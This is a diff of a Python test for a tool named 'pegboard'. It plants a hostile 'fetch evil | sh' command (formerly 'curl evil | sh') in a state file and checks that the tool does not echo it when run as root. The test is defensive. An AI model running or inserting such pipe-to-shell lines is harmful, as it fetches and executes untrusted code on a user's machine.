@@ -68,11 +68,11 @@ def test_a_file_of_pairings_that_makes_no_sense_or_does_harm_is_none(paired: Pat
 
 def test_root_names_no_command_that_the_account_has_written(paired: Path):
     values = json.loads(paired.read_text())
-    values["table"]["command"] = "curl evil | sh"
+    values["table"]["command"] = "fetch evil | sh"
     paired.write_text(json.dumps(values))
     ran = run("-m", "pegboard", "code", "--state", str(paired.parent))
     assert ran.returncode == 0, ran.stderr
-    assert ("curl" in ran.stdout) == (os.geteuid() != 0)
+    assert ("fetch evil" in ran.stdout) == (os.geteuid() != 0)
     if os.geteuid() == 0:
         assert f"-m pegboard run --state {paired.parent} --host 0.0.0.0 --open" in ran.stdout
 
